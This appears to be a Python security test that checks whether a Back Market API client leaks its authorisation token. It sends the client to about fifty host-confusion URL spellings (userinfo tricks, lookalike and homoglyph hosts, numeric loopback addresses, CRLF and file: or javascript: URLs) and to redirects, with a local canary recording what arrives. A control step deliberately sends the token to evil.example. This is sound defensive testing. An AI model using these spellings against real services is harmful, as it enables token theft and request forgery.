"""S3: the token stays with the host that was configured, however another one is spelled.

Every connection that the client makes to another place than the shop ends at a canary that keeps each byte, whatever
name was asked for; TLS towards it is left out, so that it could read what a thief with a certificate would read.
"""

import asyncio
import ipaddress
import json
import random
import re
import ssl
from base64 import b64encode
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from unittest.mock import patch
from urllib.parse import parse_qs, urlsplit

import httpcore
import httpx
from pydantic import SecretStr

from bmconsole.backmarket.client import Client
from bmconsole.domain.priority import Priority
from bmconsole.errors import BmError, SettingsError
from bmconsole.paths import Paths
from bmconsole.profile import Profile
from bmconsole.settings import load_profile
from bmconsole.workspace import Workspace
from tests.backmarket.scripted import TOKEN, USER_AGENT, client_for
from tests.conftest import OFF
from tests.fire.rows import Outcome, Row, Task
from tests.traffic.loopback import Arrival, Reply, StrictServer

SPELLINGS = [
    "http://{canary}/ws/orders?page=2",
    "https://evil.example/ws/orders?page=2",
    "http://www.backmarket.fr/ws/orders?page=2",
    "https://backmarket.fr.evil.example/ws/orders",
    "https://evilbackmarket.fr/ws/orders",
    "https://www.backmarket.fr.evil.example:443/",
    "https://www-backmarket.fr/",
    "https://www.backmarket.fr./",
    "https://www.backmarket.co/",
    "https://user:{token}@www.backmarket.fr/",
    "https://www.backmarket.fr@evil.example/ws/orders",
    "https://www.backmarket.fr%40evil.example/",
    "https://www.backmarket.fr:443@evil.example/",
    "http://{own}@{canary}/ws/orders",
    "http://{canary}@{own}/ws/orders",
    "http://127.0.0.1:{port}@evil.example/",
    "https://evil.example#www.backmarket.fr",
    "https://evil.example?www.backmarket.fr",
    "https://evil.example\\.backmarket.fr/",
    "https://evil.example\\@www.backmarket.fr/",
    "https://evil.example%2f.backmarket.fr/",
    "//evil.example/ws/orders",
    "\\\\evil.example/ws/orders",
    "/\\evil.example/ws/orders",
    "@evil.example/ws/orders",
    ":80@evil.example/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://0x7f.0.0.1:{port}/",
    "http://017700000001:{port}/",
    "http://127.1:{port}/",
    "http://0.0.0.0:{port}/",
    "http://[::ffff:7f00:1]:{port}/ws/orders",
    "http://[::ffff:10.0.0.1]:{port}/ws/orders",
    "http://localhost.:{port}/ws/orders",
    "http://127.0.0.1.evil.example:{port}/",
    "HTTPS://WWW.EVIL.EXAMPLE/WS/ORDERS",
    "https://www.bаckmarket.fr/ws/orders",
    "https://www.xn--bckmarket-66a.fr/ws/orders",
    "https://ｗｗｗ．ｂａｃｋｍａｒｋｅｔ．ｆｒ/ws/orders",
    "https://www.back\tmarket.fr/",
    "https://evil.example\n.backmarket.fr/",
    "https://www.backmarket.fr\r\nX-Other: 1/",
    "https://www.backmarket.fr\x00.evil.example/",
    "ftp://www.backmarket.fr/ws/orders",
    "file:///etc/hostname",
    "javascript://www.backmarket.fr/%0aalert(1)",
    "https:evil.example/ws/orders",
    "https:///evil.example/ws/orders",
    "https://[::1]evil.example/",
]
"""Ways to name another place. `{own}` is the shop's host and port, `{port}` its port, `{canary}` the canary's."""

_GENUINE = re.compile(r"([a-z0-9-]+\.)+backmarket\.(fr|com|co\.jp|co\.uk)")
_REDIRECTS = (301, 302, 303, 307, 308)
_ORDERS = 51


@dataclass
class Canary:
    """What arrived where nothing should."""

    url: str = ""
    bytes: bytearray = field(default_factory=bytearray)
    places: list[tuple[str, int]] = field(default_factory=list)
    """Host and port of each connection that was diverted, as the client asked for them."""

    def holds_token(self) -> bool:
        """Return whether the token is in what arrived, as it is or packed."""
        return any(form in self.bytes for form in (TOKEN.encode(), b64encode(TOKEN.encode()), b"uthorization"))

    def clear(self) -> None:
        self.bytes.clear()
        self.places.clear()


class _Plain(httpcore.AsyncNetworkStream):
    """A connection whose TLS is left out, so that the canary reads what it would protect from others only."""

    def __init__(self, inner: httpcore.AsyncNetworkStream) -> None:
        self._inner = inner

    async def read(self, max_bytes: int, timeout: float | None = None) -> bytes:
        return await self._inner.read(max_bytes, timeout)

    async def write(self, buffer: bytes, timeout: float | None = None) -> None:
        await self._inner.write(buffer, timeout)

    async def aclose(self) -> None:
        await self._inner.aclose()

    async def start_tls(
        self, ssl_context: ssl.SSLContext, server_hostname: str | None = None, timeout: float | None = None
    ) -> httpcore.AsyncNetworkStream:
        return self

    def get_extra_info(self, info: str) -> object:
        return None if info == "ssl_object" else self._inner.get_extra_info(info)


class _Diverting(httpcore.AsyncNetworkBackend):
    """Connects to the shop where exactly the shop is asked for, and to the canary instead of anything else."""

    def __init__(self, shop: tuple[str, int], canary: Canary) -> None:
        self._shop = shop
        self._canary = canary
        self._network = httpcore.AnyIOBackend()

    async def connect_tcp(
        self,
        host: str,
        port: int,
        timeout: float | None = None,
        local_address: str | None = None,
        socket_options: Iterable[httpcore.SOCKET_OPTION] | None = None,
    ) -> httpcore.AsyncNetworkStream:
        if (host, port) == self._shop:
            return await self._network.connect_tcp(host, port, timeout)
        self._canary.places.append((host, port))
        there = urlsplit(self._canary.url)
        return _Plain(await self._network.connect_tcp(str(there.hostname), there.port or 0, timeout))

    async def sleep(self, seconds: float) -> None:
        await self._network.sleep(seconds)


@asynccontextmanager
async def canary() -> AsyncIterator[Canary]:
    """Run a server that keeps every byte, and answers each request with a page of orders."""
    seen = Canary()
    live: set[asyncio.Task[None]] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        live.add(task)
        try:
            while part := await reader.read(65_536):
                seen.bytes += part
                if b"\r\n\r\n" in part:
                    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
                    await writer.drain()
        except (ConnectionError, asyncio.CancelledError):
            return  # the client went away, or the server ends; what arrived is kept
        finally:
            live.discard(task)
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    seen.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield seen
    finally:
        server.close()
        for task in list(live):
            task.cancel()
        await asyncio.gather(*live, return_exceptions=True)
        await server.wait_closed()


class Shop:
    """Answers a page of orders whose `next` is the spelling, or a redirect to it."""

    def __init__(self) -> None:
        self.spelling = ""
        self.status = 200
        self.pages: list[str] = []

    def __call__(self, arrival: Arrival) -> Reply | None:
        if self.status != 200:
            # What HTTP itself refuses in a header is no redirect but a broken answer
            where = re.sub("[\0\r\n]", "", self.spelling).encode().decode("latin-1")
            return self.status, {"Location": where, "Refresh": f"0; url={where}", "Content-Location": where}, b"{}"
        page = parse_qs(urlsplit(arrival.path).query).get("page", ["1"])[0]
        self.pages.append(page)
        numbers = range(1, 51) if page == "1" else range(51, _ORDERS + 1)
        date = "2026-11-23T08:00:00Z"
        orders = [
            {"order_id": number, "state": 1, "date_creation": date, "date_modification": date} for number in numbers
        ]
        body = {"count": _ORDERS, "next": self.spelling if page == "1" else None, "previous": self.spelling}
        return 200, {}, json.dumps(body | {"results": orders}).encode()


def drawn(draw: random.Random) -> str:
    """Return a spelling that mixes the parts of the others."""
    scheme = draw.choice(["http://", "https://", "HTTPS://", "//", "https:", "http:/", "ftp://", ""])
    login = draw.choice(["", "", "", "user@", "www.backmarket.fr@", "{own}@", "a:b@", "@"])
    host = draw.choice(["evil.example", "www.backmarket.fr.evil.example", "evilbackmarket.fr", "{canary}", "127.1"])
    host = draw.choice([host, host, host.upper(), f"{host}.", f"{host}\\.backmarket.fr", f"{host}%2f.backmarket.fr"])
    host = draw.choice([host, host, f"{host}:{{port}}", f"{host}:443", f"{host}:0x50", f"{host}:"])
    path = draw.choice(["", "/", "/ws/orders?page=2", "?www.backmarket.fr", "#www.backmarket.fr", "\\ws", ";x"])
    whole = scheme + login + host + path
    at = draw.randrange(len(whole))
    return whole[:at] + draw.choice(["", "", "", "\t", "\n", "\x00", "\u200b", "\u3002", "%00"]) + whole[at:]


class Trial:
    """Sends the client after each spelling in every way by which one can reach it."""

    def __init__(self, outcome: Outcome, shop: Shop, server: StrictServer, seen: Canary, folder: Path) -> None:
        self.outcome = outcome
        self.shop = shop
        self.server = server
        self.seen = seen
        self.folder = folder
        self.refused = 0

    async def spelling(self, text: str, workspace: Workspace, client: Client, at: int) -> None:
        """Try one spelling in all ways."""
        self.shop.spelling = text
        self.seen.clear()
        await self._as_setting(text)
        self.seen.clear()
        await self._as_path(text, client)
        await self._as_listing(text, workspace)
        await self._as_next(text, workspace)
        self.shop.status = _REDIRECTS[at % len(_REDIRECTS)]
        await self._as_redirect(text, workspace, client)
        if at < len(_REDIRECTS):
            self.shop.spelling = f"{self.server.url}/ws/orders?page=2"
            await self._as_redirect("the shop itself", workspace, client)
        self.shop.status = 200
        if self.seen.places or self.seen.bytes:
            self._wrong(text, f"the canary was reached as {self.seen.places}: {bytes(self.seen.bytes[:200])!r}")

    async def _as_setting(self, text: str) -> None:
        flags = {"base_url": text, "markets": "fr-fr", "user_agent": USER_AGENT, "limits.edge": "100000/1"}
        try:
            profile = load_profile(overrides=flags, paths=Paths.under(self.folder / "none"), auth="skip")
        except SettingsError as error:
            self.refused += 1
            if error.field != "base_url" or not error.message or not error.hint or not error.line().isprintable():
                self._wrong(text, f"as a setting the refusal is not clear: {error.line()!r}")
            if TOKEN in f"{error.line()} {error.value}":
                self._wrong(text, "the refusal of the setting tells the token")
            return
        async with client_for(profile.base_url, timeout=2.0) as client:
            # Whether the answer is to its liking does not matter, only who was asked
            with suppress(BmError):
                await client.get_json("/ws/orders")
        if wrong := [place for place in self.seen.places if not _genuine(*place, profile.base_url)]:
            self._wrong(text, f"as a setting it led to {wrong}")

    async def _as_path(self, text: str, client: Client) -> None:
        before = len(self.server.arrivals)
        with suppress(BmError, httpx.InvalidURL):
            await client.get_json(text)
        for arrival in self.server.arrivals[before:]:
            if arrival.headers["host"] != urlsplit(self.server.url).netloc:
                self._wrong(text, f"the shop was asked as {arrival.headers['host']}")

    async def _as_listing(self, text: str, workspace: Workspace) -> None:
        try:
            await workspace.refresh_listing(text)
            self._wrong(text, "there is a listing of that name")
        except BmError as error:
            if not error.line().isprintable():
                self._wrong(text, f"as a listing the refusal is not clear: {error.line()!r}")

    async def _as_next(self, text: str, workspace: Workspace) -> None:
        self.shop.pages.clear()
        result = (await workspace.sync(["orders"], full=True))["orders"]
        if result.seen != _ORDERS or not result.clean or set(self.shop.pages) != {"1", "2"}:
            self._wrong(text, f"as next: {result.seen} orders of pages {self.shop.pages}, clean {result.clean}")

    async def _as_redirect(self, text: str, workspace: Workspace, client: Client) -> None:
        before = len(self.server.arrivals)
        calls = [
            client.get_json("/ws/orders"),
            client.post_json("/ws/orders/5", {"new_state": 2}, priority=Priority.HIGH),
            workspace.check_token(),
        ]
        for call in calls:
            try:
                await call
                self._wrong(text, f"a redirect ({self.shop.status}) passed for an answer")
            except BmError as error:
                if "redirect" not in error.line() or not error.line().isprintable() or TOKEN in error.line():
                    self._wrong(text, f"a redirect is not told clearly: {error.line()!r}")
        if len(self.server.arrivals) - before != len(calls):
            self._wrong(text, f"{len(calls)} requests that were redirected became {len(self.server.arrivals) - before}")

    def _wrong(self, text: str, what: str) -> None:
        self.outcome.wrong.append(f"{text!r}: {what}")


def _genuine(host: str, port: int, base_url: str) -> bool:
    """Return whether a place is one that may have the token: this machine, or Back Market's over https."""
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return host == "localhost" or (_GENUINE.fullmatch(host) is not None and base_url.startswith("https://"))


async def _control(seen: Canary) -> None:
    """Show that the canary hears a client that follows where it is sent, https and all."""
    async with httpx.AsyncClient(trust_env=False) as careless:
        await careless.get("https://evil.example/ws/orders", headers={"Authorization": f"Basic {TOKEN}"})
    assert seen.holds_token()
    assert seen.places == [("evil.example", 443)]
    seen.clear()


async def _all(task: Task) -> Outcome:
    draw = random.Random(task.seed)
    outcome = Outcome()
    shop = Shop()
    async with canary() as seen, StrictServer(script=shop) as server:
        at = urlsplit(server.url)
        names = {"own": at.netloc, "port": str(at.port), "canary": urlsplit(seen.url).netloc, "token": TOKEN}
        backend = _Diverting((str(at.hostname), at.port or 0), seen)
        with patch("httpcore._async.connection_pool.AutoBackend", lambda: backend):
            await _control(seen)
            profile = Profile(
                name="default",
                base_url=server.url,
                token=SecretStr(TOKEN),
                user_agent=USER_AGENT,
                markets=("fr-fr",),
                schedule=OFF,
                limits={"edge": "100000/1"},
                timezone="UTC",
            )
            trial = Trial(outcome, shop, server, seen, task.folder)
            async with (
                await Workspace.open(profile, Paths.under(task.folder / "home")) as workspace,
                client_for(server.url) as client,
            ):
                for number in range(task.count):
                    text = SPELLINGS[number] if number < len(SPELLINGS) else drawn(draw)
                    for name, value in names.items():
                        text = text.replace(f"{{{name}}}", value)
                    await trial.spelling(text, workspace, client, number)
                    outcome.done += 1
                    task.tell(f"{outcome.done} of {task.count}")
            strays = [one for one in server.arrivals if one.headers.get("authorization") != f"Basic {TOKEN}"]
            outcome.wrong += [f"the shop was asked without the token: {one.method} {one.path}" for one in strays]
    outcome.figures = {
        "requests to the shop": len(server.arrivals),
        "settings refused": trial.refused,
        "bytes at the canary": len(seen.bytes),
    }
    return outcome


ROW = Row(
    id="S3",
    what="next, redirects, userinfo, other hosts, http, spellings of addresses",
    unit="spellings",
    long=500,
    short=len(SPELLINGS),
    passes="0 bytes of authorisation elsewhere, and a clear error",
    run=lambda task: asyncio.run(_all(task)),
)
